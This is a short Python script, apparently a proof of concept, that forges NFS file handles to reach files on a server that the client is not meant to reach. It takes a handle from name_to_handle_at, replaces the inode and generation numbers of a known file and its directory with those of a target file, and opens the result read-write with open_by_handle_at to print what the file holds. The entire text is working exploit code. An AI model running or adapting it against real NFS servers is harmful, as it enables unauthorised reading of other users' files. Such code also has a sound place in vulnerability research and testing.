"""Forge an NFS file handle, as a hostile client would: FORGE MOUNT FILE, then inode and generation number of FILE, of
its directory, of the file to reach, and of its directory. Prints what that file holds, or why it cannot be had.

What name_to_handle_at(2) gives for a file on NFS has the server's own handle in it, and open_by_handle_at(2) sends the
server whatever it is given. ext4's part is inode, generation, and with subtree_check those of the directory (all LE32).
"""

import ctypes
import os
import struct
import sys
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]


def handle_of(path: Path) -> tuple[int, bytes]:
    handle, mount = Handle(128, 0), ctypes.c_int()
    if libc.name_to_handle_at(-100, os.fsencode(path), ctypes.byref(handle), ctypes.byref(mount), 0):
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()), str(path))
    return handle.type, bytes(handle.data[: handle.size])


def read(mount: str, kind: int, data: bytes) -> str:
    handle = Handle(len(data), kind)
    ctypes.memmove(handle.data, data, len(data))
    descriptor = libc.open_by_handle_at(os.open(mount, os.O_RDONLY), ctypes.byref(handle), os.O_RDWR)
    return os.read(descriptor, 100).decode() if descriptor >= 0 else os.strerror(ctypes.get_errno())


mount, file = sys.argv[1:3]
known, above, wanted, wanted_above = (struct.pack("<II", *map(int, sys.argv[at : at + 2])) for at in (3, 5, 7, 9))
kind, data = handle_of(Path(mount, file))
assert data.count(known) == 1, data.hex()
print(read(mount, kind, data).strip())
# The client's own part comes first, with the inode's number: high word, low word.
own = b"\0\0\0\0" + known[:4]
assert data.startswith(own), data.hex()
forged = b"\0\0\0\0" + wanted[:4] + data[8:].replace(known + above, wanted + wanted_above).replace(known, wanted)
print(read(mount, kind, forged).strip())
